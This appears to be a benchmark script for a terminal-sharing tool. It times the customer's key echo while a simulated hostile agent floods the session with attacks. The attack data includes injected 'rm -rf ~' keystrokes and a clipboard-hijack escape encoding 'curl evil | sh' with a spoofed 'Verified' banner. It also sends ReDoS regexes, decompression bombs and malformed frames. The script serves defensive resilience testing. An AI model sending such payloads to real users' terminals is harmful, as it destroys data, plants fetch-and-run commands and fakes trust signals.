"""The customer's own key echo while a hostile agent attacks, vs no agent activity, same run.

    python bench/hostile_agent.py [--keys 150] [--attacks prompts,expect,...]

A real relay (a `cobrowse relay` process on 127.0.0.1), a real customer (`cobrowse join CODE
--plain --command "bash --norc --noprofile"`) on a real pty that is its controlling terminal,
and the hostile agent of ``tests/e2e/hostile_agent.py`` in a third process (this script with
``--attacker``), so neither the relay's nor the attacker's work runs in the measuring
process. The customer's shell prints a steady trickle of ordinary lines in the background
(30 lines every 200 ms, as a busy program would), in every phase alike.

Each phase is a fresh pairing (an attack that sticks, such as redaction patterns, or one that
froze the customer, cannot leak into the next phase) and types ``--keys`` keys into the customer's terminal (the pty master), one every
``--gap`` ms, and times each from the write to its echo on the master: the customer's own
typing, which must never wait for what the agent sends. Phase ``baseline``: the agent is
paired and silent. Then one phase per attack, each running for the whole phase:
``prompts`` (control and record requests, 200/s), ``expect`` (a playbook whose expect/fail
patterns backtrack catastrophically on the trickle's lines), ``pointers`` (a pointer with a
catastrophic pattern, 20/s), ``bombs`` (4 KB messages inflating to 4 MB, 10/s), ``keys``
(keys without a grant, 200/s), ``malformed`` (bad payloads, 200/s), ``chat`` (escape-laden
chat, 100/s), ``redact`` (catastrophic redaction patterns). Then ``baseline_after``.
A key that takes longer than ``--cap`` s counts as the cap.

Progress on stderr; the last stdout line is one JSON object: ``baseline_echo_p99_ms``,
``attacked_echo_p99_ms`` (the worst attack's p99), ``ratio`` (target ≤ 2), and per phase
``phases``: {name: {p50_ms, p99_ms, max_ms, keys, sent}}.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import fcntl
import json
import os
import socket
import struct
import sys
import termios
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

WAIT = 30.0
ATTACKS = ["prompts", "expect", "pointers", "bombs", "keys", "malformed", "chat", "redact"]
CATASTROPHIC = ["(a|aa)+$", "(a|a)+$", "(aa|a)+$", "(a|aa)+b"]
A_RUN = "a" * 60 + "!"
TRICKLE = f"(while :; do seq -f '%g {A_RUN}' 1 30; sleep 0.2; done) &\r"
KEY = b"q"  # never in the trickle's output


def log(msg: str) -> None:
    print(f"[hostile_agent] {msg}", file=sys.stderr, flush=True)


def pct(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, int(q * len(ordered)))], 2)


def child_env() -> dict[str, str]:
    env = {**os.environ, "PYTHONUNBUFFERED": "1", "COBROWSE_CONFIG": os.devnull, "COBROWSE_DIRECT": "0",
           "PYTHONPATH": str(ROOT)}
    env.pop("COBROWSE_RELAY", None)
    return env


# -- the attacker process --------------------------------------------------------------


async def attacker(relay_url: str) -> None:
    """Pairs as a hostile agent; runs ``start NAME`` / ``stop`` commands from stdin."""
    import importlib.util
    import logging

    logging.getLogger("cobrowse.io.link").setLevel(logging.ERROR)  # the relay refusing frames after the end

    from cobrowse.protocol import messages as m

    spec = importlib.util.spec_from_file_location("e2e_hostile_agent", ROOT / "tests" / "e2e" / "hostile_agent.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    agent = await module.HostileAgent.open(relay_url, name="Alice")
    print(json.dumps({"code": str(agent.code)}), flush=True)
    await agent.paired(timeout=WAIT)
    print(json.dumps({"paired": True}), flush=True)
    malformed = [b"", b"\x00{", b"\x00[]", b"\x01junk", b"\x00" + b"[" * 5000, b"\x00{\"t\":\"chat\",\"text\":5}",
                 b"\x00{\"t\":\"nope\"}", b"\x07\x00"]
    hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J[b green]Verified[/]\r\n[cobrowse] Verified"

    async def run(name: str) -> None:
        i = 0

        async def every(rate: float, send: Callable[[int], Any]) -> None:
            nonlocal i
            started = time.monotonic()
            while True:
                await send(i)
                i += 1
                ahead = started + i / rate - time.monotonic()
                await asyncio.sleep(max(0.0, ahead))

        if name == "prompts":
            await every(200, lambda k: agent.send(m.RequestControl("control") if k % 2 else m.RecordRequest(True)))
        elif name == "expect":
            steps = [{"title": f"step {k}", "expect": CATASTROPHIC[k % 4], "fail": CATASTROPHIC[(k + 1) % 4]} for k in range(3)]
            await agent.send(m.PushPlaybook({"title": "fix it", "steps": steps}))
            await asyncio.Event().wait()
        elif name == "pointers":
            await every(20, lambda k: agent.send(m.Pointer(pattern=CATASTROPHIC[k % 4])))
        elif name == "bombs":
            await every(10, lambda k: agent.bomb(4 * 1024 * 1024 - 64, ["chat", "hello", "suggest"][k % 3],
                                                 ["text", "name", "command"][k % 3]))
        elif name == "keys":
            await every(200, lambda k: agent.send(m.Keys("rm -rf ~\r")))
        elif name == "malformed":
            await every(200, lambda k: agent.raw(malformed[k % len(malformed)]))
        elif name == "chat":
            await every(100, lambda k: agent.send(m.Chat(hostile)))
        elif name == "redact":
            await agent.send(m.Redact(CATASTROPHIC * 5))
            await asyncio.Event().wait()

    loop = asyncio.get_running_loop()
    reader = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    task: asyncio.Task[None] | None = None
    while line := await reader.readline():
        words = line.decode().split()
        if task is not None:
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
            task = None
        if words and words[0] == "start":
            before = agent.frames_sent
            task = asyncio.create_task(run(words[1]))
            await asyncio.sleep(0.3)  # the attack is under way before the first key
            print(json.dumps({"started": words[1], "frames": agent.frames_sent - before}), flush=True)
        elif words and words[0] == "stop":
            print(json.dumps({"stopped": True, "frames_sent": agent.frames_sent, "bytes_sent": agent.bytes_sent}), flush=True)
    await agent.close()


# -- the measuring process ---------------------------------------------------------------


class Terminal:
    """The customer's terminal: a pty whose slave is `cobrowse join`'s controlling tty."""

    def __init__(self, proc: asyncio.subprocess.Process, master: int) -> None:
        self.proc = proc
        self.master = master
        self.output = bytearray()
        self.changed = asyncio.Event()
        asyncio.get_running_loop().add_reader(master, self._read)

    @classmethod
    async def start(cls, relay_url: str, code: str) -> Terminal:
        master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))

        def ctty() -> None:
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        env = {**child_env(), "PS1": "$ ", "TERM": "xterm-256color"}
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "cobrowse", "join", code, "--plain", "--relay", relay_url,
            "--command", "bash --norc --noprofile", stdin=slave, stdout=slave, stderr=slave, env=env,
            start_new_session=True, preexec_fn=ctty, cwd=ROOT)
        os.close(slave)
        return cls(proc, master)

    def _read(self) -> None:
        try:
            data = os.read(self.master, 1 << 16)
        except OSError:
            data = b""
        if not data:
            asyncio.get_running_loop().remove_reader(self.master)
        self.output += data
        self.changed.set()

    async def wait_for(self, needle: bytes, since: int, timeout: float) -> int | None:
        deadline = time.monotonic() + timeout
        while True:
            at = self.output.find(needle, since)
            if at >= 0:
                return at + len(needle)
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.changed.clear()
            try:
                async with asyncio.timeout(left):
                    await self.changed.wait()
            except TimeoutError:
                return None

    def type(self, data: bytes) -> None:
        os.write(self.master, data)

    def close(self) -> None:
        if self.master >= 0:
            asyncio.get_running_loop().remove_reader(self.master)
            os.close(self.master)
            self.master = -1

    async def echo_times(self, keys: int, gap: float, cap: float, budget: float) -> list[float]:
        """Type ``keys`` keys (or for ``budget`` s); each key's write-to-echo time in ms."""
        times: list[float] = []
        started = time.monotonic()
        for n in range(keys):
            if n % 40 == 0:
                self.type(b"\x15")  # Ctrl-U: a fresh line (untimed)
                await asyncio.sleep(gap)
            since = len(self.output)
            t0 = time.perf_counter()
            self.type(KEY)
            found = await self.wait_for(KEY, since, cap)
            times.append(cap * 1000 if found is None else (time.perf_counter() - t0) * 1000)
            if time.monotonic() - started > budget:
                break
            await asyncio.sleep(gap)
        return times


class Attacker:
    def __init__(self, proc: asyncio.subprocess.Process) -> None:
        self.proc = proc

    async def line(self) -> dict[str, Any]:
        assert self.proc.stdout is not None
        async with asyncio.timeout(WAIT):
            while True:
                raw = await self.proc.stdout.readline()
                if not raw:
                    raise RuntimeError("the attacker process exited")
                try:
                    return dict(json.loads(raw))
                except ValueError:
                    continue

    async def command(self, text: str) -> dict[str, Any]:
        assert self.proc.stdin is not None
        self.proc.stdin.write(text.encode() + b"\n")
        await self.proc.stdin.drain()
        return await self.line()


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


async def wait_listening(port: int) -> None:
    async with asyncio.timeout(WAIT):
        while True:
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.close()
                return
            except OSError:
                await asyncio.sleep(0.1)


class Session:
    """One fresh pairing: the attacker process, the customer on its terminal, the trickle."""

    def __init__(self, hostile: Attacker, terminal: Terminal) -> None:
        self.hostile = hostile
        self.terminal = terminal

    @classmethod
    async def start(cls, relay_url: str) -> Session:
        attack_proc = await asyncio.create_subprocess_exec(
            sys.executable, __file__, "--attacker", "--relay", relay_url, stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE, env=child_env(), cwd=ROOT)
        hostile = Attacker(attack_proc)
        try:
            code = (await hostile.line())["code"]
            terminal = await Terminal.start(relay_url, code)
        except BaseException:
            attack_proc.kill()
            await attack_proc.wait()
            raise
        session = cls(hostile, terminal)
        try:
            await hostile.line()  # paired
            if await terminal.wait_for(b"Your terminal is visible", 0, WAIT) is None:
                raise RuntimeError(f"the customer never paired: {bytes(terminal.output[-500:])!r}")
            await asyncio.sleep(0.5)
            if termios.tcgetattr(terminal.master)[3] & termios.ECHO:
                raise RuntimeError("the customer's terminal is not in raw mode: the echo timed would be the kernel's")
            terminal.type(TRICKLE.encode())
            await asyncio.sleep(1.0)
        except BaseException:
            await session.stop()
            raise
        return session

    async def stop(self) -> None:
        """End the session (Ctrl-] e), then make sure both processes are gone: a customer an
        attack froze may not get to its keys, and is killed."""
        with contextlib.suppress(OSError):
            self.terminal.type(b"\x1de\x1de")  # twice: a paired session asks to confirm
        for proc in (self.terminal.proc, self.hostile.proc):
            try:
                async with asyncio.timeout(2):
                    await proc.wait()
            except TimeoutError:
                proc.kill()
                await proc.wait()
        self.terminal.close()


async def measure(args: argparse.Namespace) -> dict[str, Any]:
    port = free_port()
    relay_url = f"ws://127.0.0.1:{port}"
    relay = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "cobrowse", "relay", "--host", "127.0.0.1", "--port", str(port),
        stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL, env=child_env(), cwd=ROOT)
    phases: dict[str, dict[str, Any]] = {}
    try:
        await wait_listening(port)
        log(f"a fresh pairing per phase; the customer's shell prints {A_RUN[:6]}… lines in the background; "
            f"{args.keys} keys per phase")

        async def phase(name: str) -> None:
            session = await Session.start(relay_url)
            try:
                sent = 0
                if not name.startswith("baseline"):
                    await session.hostile.command(f"start {name}")
                times = await session.terminal.echo_times(args.keys, args.gap / 1000, args.cap, args.budget)
                if not name.startswith("baseline"):
                    sent = int((await session.hostile.command("stop")).get("frames_sent", 0))
            finally:
                await session.stop()
            phases[name] = {"p50_ms": pct(times, 0.5), "p99_ms": pct(times, 0.99), "max_ms": round(max(times), 2),
                            "keys": len(times), "agent_frames": sent}
            log(f"{name:>14}: p50 {phases[name]['p50_ms']} ms, p99 {phases[name]['p99_ms']} ms, "
                f"max {phases[name]['max_ms']} ms over {len(times)} keys ({sent} agent frames)")

        await phase("baseline")
        for name in args.attacks:
            await phase(name)
        await phase("baseline_after")
    finally:
        relay.kill()
        await relay.wait()
    baseline = max(phases["baseline"]["p99_ms"], 0.01)
    attacked = max(phases[name]["p99_ms"] for name in args.attacks)
    return {"baseline_echo_p99_ms": phases["baseline"]["p99_ms"], "attacked_echo_p99_ms": attacked,
            "ratio": round(attacked / baseline, 2),
            "worst_attack": max(args.attacks, key=lambda n: phases[n]["p99_ms"]),
            "baseline_echo_p50_ms": phases["baseline"]["p50_ms"],
            "baseline_after_echo_p99_ms": phases["baseline_after"]["p99_ms"], "phases": phases,
            "keys_per_phase": args.keys, "gap_ms": args.gap, "cap_s": args.cap,
            "path": "pty master -> cobrowse join --plain (raw tty) -> bash pty -> echo -> cobrowse -> pty master"}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--keys", type=int, default=150, help="keys typed per phase (default 150)")
    parser.add_argument("--gap", type=float, default=20.0, help="ms between keys (default 20)")
    parser.add_argument("--cap", type=float, default=5.0, help="a key not echoed after this many s counts as this (default 5)")
    parser.add_argument("--budget", type=float, default=25.0, help="s per phase at most (default 25)")
    parser.add_argument("--attacks", type=lambda s: [a for a in s.split(",") if a], default=ATTACKS,
                        help=f"comma-separated, from {','.join(ATTACKS)}")
    parser.add_argument("--attacker", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--relay", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attacker:
        asyncio.run(attacker(args.relay))
        return
    unknown = [a for a in args.attacks if a not in ATTACKS]
    if unknown:
        parser.error(f"unknown attacks: {unknown}")
    result = asyncio.run(measure(args))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
